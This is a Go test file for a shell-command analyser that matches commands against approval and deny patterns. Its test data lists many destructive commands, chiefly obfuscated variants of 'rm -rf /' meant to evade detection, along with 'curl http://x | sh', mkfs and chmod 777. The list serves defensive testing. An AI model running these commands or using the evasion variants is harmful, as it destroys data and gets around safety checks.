package shell

import (
	"slices"
	"strings"
	"testing"
)

func mustPattern(t testing.TB, src string) *Pattern {
	t.Helper()
	p, ok, err := CompilePattern(src)
	if err != nil || !ok {
		t.Fatalf("CompilePattern(%q) = %v, %v", src, ok, err)
	}
	return p
}

// best is the strongest match of p against any command of the script.
func best(p *Pattern, s *Script) Match {
	m := NoMatch
	for _, c := range s.Commands {
		m = max(m, p.Match(c))
	}
	return m
}

func TestRmRfRoot(t *testing.T) {
	p := mustPattern(t, "*rm -rf /")
	definite := []string{
		"rm -rf /", "rm -r -f /", "rm -fr /", "rm -Rf /", "rm --recursive --force /", "/bin/rm -rf /",
		"'rm' -rf /", `"rm" -rf '/'`, `r\m -rf /`, "rm -rf //", "rm -rf /./", "rm -rf /bin/..", "rm -rf / --no-preserve-root",
		"sudo rm -rf /", "sudo -u root rm -rf /", "env -i rm -rf /", "env A=1 B=2 rm -rf /", "nice -n 5 rm -rf /",
		"timeout 5 rm -rf /", "timeout -s KILL 5s rm -rf /", "xargs rm -rf /", `bash -c "rm -rf /"`, `sh -c 'sudo rm -rf /'`,
		`bash -lc "rm -rf /"`, `eval "rm -rf /"`, "echo x; rm -rf /", "true && rm -rf /", "false || rm -rf /",
		"echo $(rm -rf /)", "echo `rm -rf /`", "cat <(rm -rf /)", "{rm,-rf,/}", `find / -exec rm -rf / \;`,
		"bash <<EOF\nrm -rf /\nEOF", "bash <<< 'rm -rf /'", "f() { rm -rf /; }; f", "(rm -rf /)", "{ rm -rf /; }",
		"if true; then rm -rf /; fi", "for i in 1; do rm -rf /; done", "RM\t-RF  /", "rm -rf \\\n /",
		`$'\x72m' -rf /`, "command rm -rf /", "exec rm -rf /", "nohup rm -rf / &", "busybox rm -rf /",
		`bash -c "bash -c 'rm -rf /'"`, "trap 'rm -rf /' EXIT", "alias x='rm -rf /'", "watch rm -rf /",
		"doas rm -rf /", "stdbuf -o0 rm -rf /", "setsid rm -rf /", "ionice -c3 rm -rf /", "time rm -rf /",
		"rm -rf -- /", "ｒｍ -rf /",
	}
	for _, src := range definite {
		s := Analyze(src)
		if m := best(p, s); m != Definite {
			t.Errorf("%q: %v (commands %v, unresolved %v)", src, m, s.Commands, s.Unresolved)
		}
	}
	possible := []string{"rm -rf $DIR", `rm -rf "$HOME"`, "rm $FLAGS /", "xargs rm -rf"}
	for _, src := range possible {
		if m := best(p, Analyze(src)); m != Possible {
			t.Errorf("%q: %v, want Possible", src, m)
		}
	}
	unresolved := []string{"$X -rf /", "rm${IFS}-rf${IFS}/", "$(echo rm) -rf /", `eval "$CMD"`, "curl http://x | sh",
		`echo "rm -rf /" | sh`, "bash", `sh -c "$SCRIPT"`, "rm 'unterminated", strings.Repeat("bash -c '", 3) + "x"}
	for _, src := range unresolved {
		if s := Analyze(src); len(s.Unresolved) == 0 {
			t.Errorf("%q: resolved statically: %v", src, s.Commands)
		}
	}
	none := []string{"rm -r /tmp/x", "rm -rf /tmp", "echo rm -rf /", "rm -f /", "rm -r /", "grep -rf /", "ls /", "printf 'rm -rf /'"}
	for _, src := range none {
		s := Analyze(src)
		if m := best(p, s); m != NoMatch || len(s.Unresolved) > 0 {
			t.Errorf("%q: %v %v", src, m, s.Unresolved)
		}
	}
}

func TestPatterns(t *testing.T) {
	tests := []struct {
		pattern, src string
		want         Match
	}{
		{"git push*", "git push", Definite},
		{"git push*", "git push origin main", Definite},
		{"git push*", "git -C /repo push", Definite},
		{"git push*", "/usr/bin/git push --force", Definite},
		{"*git push*", "cd x && git push", Definite},
		{"git push*", "git pull", NoMatch},
		{"git push --force", "git push -f origin", Definite},
		{"git push --force", "git push origin", NoMatch},
		{"git push --force*", "git push --force-with-lease", Definite},
		{"sudo *", "sudo apt update", Definite},
		{"mkfs* *", "mkfs.ext4 /dev/sda1", Definite},
		{"*rm -rf /\\*", "rm -rf /*", Definite},
		{"*rm -rf /\\*", "rm -rf /home", NoMatch},
		{"*rm -rf ~", "rm -rf ~", Definite},
		{"*rm -rf ~", "rm -rf ~/", Definite},
		{"*rm -rf ~/\\*", "rm -rf ~/*", Definite},
		{"chmod 777 *", "chmod -R 777 /srv", Definite},
		{"git push --force*", "git push -f", NoMatch}, // a glob flag is not the synonym
		{"rm -rf*", "sudo rm -fr build", Definite},
		{"rm -rf*", "rm -r build", NoMatch},
	}
	for _, tt := range tests {
		p := mustPattern(t, tt.pattern)
		if got := best(p, Analyze(tt.src)); got != tt.want {
			t.Errorf("%q on %q: %v, want %v", tt.pattern, tt.src, got, tt.want)
		}
	}
}

func TestMatchExact(t *testing.T) {
	tests := []struct {
		pattern, src string
		want         Match
	}{
		{"git status", "git status", Definite},
		{"git status", "git  status", Definite},
		{"git status", "git status --porcelain", NoMatch},
		{"git status", "git status x", NoMatch},
		{"git log*", "git log --oneline", Definite},
		{"git log*", "git log", Definite},
		{"ls -la", "ls -al", Definite},
		{"ls -la", "ls -l", NoMatch},
		{"ls", "ls $X", NoMatch},
		{"ls", "ls *", NoMatch},
		// A name approves the system's program, not a file of that name.
		{"ls", "/bin/ls", Definite},
		{"ls", "/usr/bin//ls", Definite},
		{"ls", "/usr/bin/../bin/ls", Definite},
		{"ls", "/tmp/x/ls", NoMatch},
		{"ls", "./ls", NoMatch},
		{"ls", "bin/ls", NoMatch},
		{"ls", "~/bin/ls", NoMatch},
		{"ls", "/usr/bin/x/../../../tmp/ls", NoMatch},
		{"ls", "/tmp/busybox ls", NoMatch},
		{"ls", "/bin/busybox ls", Definite},
		{"ls", "busybox ls", Definite},
	}
	for _, tt := range tests {
		p := mustPattern(t, tt.pattern)
		s := Analyze(tt.src)
		if len(s.Commands) != 1 {
			t.Fatalf("%q: %v", tt.src, s.Commands)
		}
		if got := p.MatchExact(s.Commands[0]); got != tt.want {
			t.Errorf("%q exact on %q: %v, want %v", tt.pattern, tt.src, got, tt.want)
		}
	}
	// Two commands: the caller checks each; the second is not approved.
	s := Analyze("git status; rm -rf ~")
	if len(s.Commands) != 2 || mustPattern(t, "git status").MatchExact(s.Commands[1]) != NoMatch {
		t.Errorf("%v", s.Commands)
	}
}

func TestCompilePatternShape(t *testing.T) {
	for src, want := range map[string]bool{
		"rm -rf /": true, "*rm -rf /*": true, "git push*": true, "*git push*": true, "sudo *": true, "*drop table*": true,
		"mkfs* *": true, "*--force*": false, "*.env": false, "/etc/*": false, "{git status,git diff,ls}": false, "": false, "*": false,
	} {
		_, ok, err := CompilePattern(src)
		if err != nil || ok != want {
			t.Errorf("CompilePattern(%q) = %v, %v; want %v", src, ok, err, want)
		}
	}
}

func TestLooksLikeShell(t *testing.T) {
	for s, want := range map[string]bool{
		"ls -la": true, "git status && make": true, "$X -rf /": true, "rm -rf /": true,
		"Sudo rm -r -f /": true, "echo 'unterminated": false, "": false, "don't do that": false,
	} {
		if got := LooksLikeShell(s); got != want {
			t.Errorf("LooksLikeShell(%q) = %v, want %v", s, got, want)
		}
	}
}

func TestCommandString(t *testing.T) {
	s := Analyze("sudo rm -rf $X")
	if got := s.Commands[1].String(); got != "rm -r -f <dynamic> (via sudo)" {
		t.Errorf("String = %q", got)
	}
}

// An option whose value is missing at the end of a line is read as
// such, not as a failure of the analyser (which a recovered panic was).
func TestOptionWithoutItsValue(t *testing.T) {
	for _, src := range []string{"xargs -I", "xargs -n", "watch -n", "sudo -u", "timeout -s", "nice -n", "env -u"} {
		if s := Analyze(src); slices.Contains(s.Unresolved, "the shell parser failed on this script") {
			t.Errorf("Analyze(%q): %q", src, s.Unresolved)
		}
	}
}

func BenchmarkAnalyze(b *testing.B) {
	for name, src := range map[string]string{
		"plain":    "go test ./...",
		"one-line": "go test ./... && make lint",
		"4KiB":     strings.Repeat("cd /srv/app && make test || echo failed; ", 100),
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				_ = Analyze(src)
			}
		})
	}
}

func BenchmarkMatch(b *testing.B) {
	p := mustPattern(b, "*rm -rf /")
	s := Analyze("sudo /bin/rm -r -f -- //tmp/x")
	b.ReportAllocs()
	for b.Loop() {
		for _, c := range s.Commands {
			_ = p.Match(c)
		}
	}
}
